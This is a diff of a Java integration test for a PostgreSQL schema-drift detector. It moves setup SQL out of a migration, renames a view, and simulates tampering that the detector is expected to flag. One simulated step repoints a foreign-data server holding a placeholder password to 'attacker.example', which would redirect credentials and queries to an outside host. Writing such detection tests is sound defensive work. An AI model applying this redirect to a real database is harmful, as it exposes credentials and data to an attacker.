@@ -134,29 +134,29 @@ class G7SchemaDriftCatalog4IT {
   void pgBehaviourChangesAreDrift() throws Exception {
     try (PipelineFixture f = PipelineFixture.prod(DatabaseKind.POSTGRESQL, dir)) {
       String role = f.db.createLoginRole();
-      f.migration(
-          "V1_1__more.sql",
-          "CREATE EXTENSION IF NOT EXISTS postgres_fdw;\n"
-              + "CREATE EXTENSION IF NOT EXISTS pgcrypto;\n"
-              + "CREATE SERVER billing FOREIGN DATA WRAPPER postgres_fdw"
-              + " OPTIONS (host 'billing.internal', dbname 'billing');\n"
-              + "CREATE USER MAPPING FOR CURRENT_USER SERVER billing"
-              + " OPTIONS (user 'app', password 'billing-secret-1');\n"
-              + "CREATE FOREIGN TABLE invoices (id int, amount numeric) SERVER billing"
-              + " OPTIONS (table_name 'invoices');\n"
-              + "CREATE AGGREGATE total(numeric) (sfunc = numeric_add, stype = numeric,"
-              + " initcond = '0');\n"
-              + "CREATE TABLE lines (id int PRIMARY KEY, note text, qty int);\n"
-              + "CREATE VIEW my_items AS SELECT * FROM items;\n"
-              + "ALTER VIEW my_items OWNER TO "
-              + role
-              + ";\n");
+      // made before the first deploy records the schema (the contract refuses such statements
+      // in a migration without a reviewed exception): part of the reference
+      byHand(
+          f,
+          "CREATE EXTENSION IF NOT EXISTS postgres_fdw",
+          "CREATE EXTENSION IF NOT EXISTS pgcrypto",
+          "CREATE SERVER billing FOREIGN DATA WRAPPER postgres_fdw"
+              + " OPTIONS (host 'billing.internal', dbname 'billing')",
+          "CREATE USER MAPPING FOR CURRENT_USER SERVER billing"
+              + " OPTIONS (user 'app', password 'billing-secret-1')",
+          "CREATE FOREIGN TABLE invoices (id int, amount numeric) SERVER billing"
+              + " OPTIONS (table_name 'invoices')",
+          "CREATE AGGREGATE total(numeric) (sfunc = numeric_add, stype = numeric,"
+              + " initcond = '0')",
+          "CREATE TABLE lines (id int PRIMARY KEY, note text, qty int)",
+          "CREATE VIEW my_lines AS SELECT * FROM lines",
+          "ALTER VIEW my_lines OWNER TO " + role);
       f.pipeline().promote("prod");
       assertThat(f.pipeline().driftShow("prod").drifted()).isFalse();
       String sub = "d17_sub_" + Long.toHexString(System.nanoTime());
       byHand(
           f,
-          "ALTER VIEW my_items OWNER TO CURRENT_USER",
+          "ALTER VIEW my_lines OWNER TO CURRENT_USER",
           "ALTER SERVER billing OPTIONS (SET host 'attacker.example')",
           "ALTER FOREIGN TABLE invoices OPTIONS (SET table_name 'decoy')",
           "ALTER USER MAPPING FOR CURRENT_USER SERVER billing"
@@ -180,7 +180,7 @@ class G7SchemaDriftCatalog4IT {
         assertThat(changes)
             .extracting(SchemaDiff.Change::object)
             .contains(
-                "owner of view public.my_items",
+                "owner of view public.my_lines",
                 "foreign server billing",
                 "server of foreign table public.invoices",
                 "definition of aggregate public.total(numeric)",
